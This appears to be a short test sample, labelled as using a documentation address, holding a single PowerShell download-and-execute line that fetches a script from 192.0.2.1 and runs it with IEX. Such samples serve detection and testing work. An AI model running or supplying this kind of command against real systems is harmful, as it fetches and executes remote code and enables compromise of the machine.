# test sample, the address is a documentation address
IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.1/a.ps1")
